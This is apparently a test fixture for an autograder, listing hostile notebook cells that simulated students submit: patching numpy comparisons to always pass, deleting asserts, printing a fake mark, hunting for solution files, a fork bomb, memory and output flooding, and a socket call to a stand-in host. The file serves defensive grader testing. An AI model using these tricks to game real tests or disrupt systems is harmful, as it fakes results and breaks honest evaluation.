"""Code that hostile students of the simulated class hand in besides their answers."""

from __future__ import annotations

__all__ = ["HOSTILE", "UNFINISHED"]

# What is tried, and the cell that tries it. None of them gains anything.
HOSTILE: dict[str, str] = {
    "patches numpy's comparisons": (
        "import numpy as np\nimport numpy.testing\n"
        "np.allclose = np.isclose = np.array_equal = lambda *args, **kwargs: True\n"
        "numpy.testing.assert_allclose = lambda *args, **kwargs: None\n"
    ),
    "deletes every assert before it runs": (
        "import ast\n\n"
        "class NoAsserts(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n"
        "        return ast.Pass()\n\n"
        "get_ipython().ast_transformers.append(NoAsserts())\n"
    ),
    "prints a mark": "from IPython.display import display\nprint('100.0')\ndisplay(100.0)\n100.0\n",
    "looks for the answers": (
        "import glob, os\n"
        "for root in ('/', os.path.expanduser('~')):\n"
        "    for path in glob.glob(root + '*/solutions/**/*.py', recursive=True):\n"
        "        print(open(path).read())\n"
        "try:\n"
        "    import dlmath_ref\n"
        "    softmax = dlmath_ref.softmax\n"
        "except ImportError as error:\n"
        "    print(error)\n"
    ),
    "ends the process": "import os\nos._exit(0)\n",
    "never ends": "while True:\n    pass\n",
    "forks without end": "import os\nwhile True:\n    os.fork()\n",
    "fills the memory": "hoard = []\nwhile True:\n    hoard.append(bytearray(64 * 2**20))\n",
    "prints without end": "while True:\n    print('x' * 100_000)\n",
    "calls home": ("import socket\nsocket.create_connection(('192.0.2.1', 443), timeout=5).sendall(b'answers?')\n"),
}

# What students leave behind when the deadline comes first.
UNFINISHED: tuple[str, ...] = (
    "def helper(x:\n    return x +\n",  # a syntax error
    "scratch = undefined_name + 1\n",  # a cell that raises
    "x = [1, 2, 3]\nx\n",  # harmless playing around
)
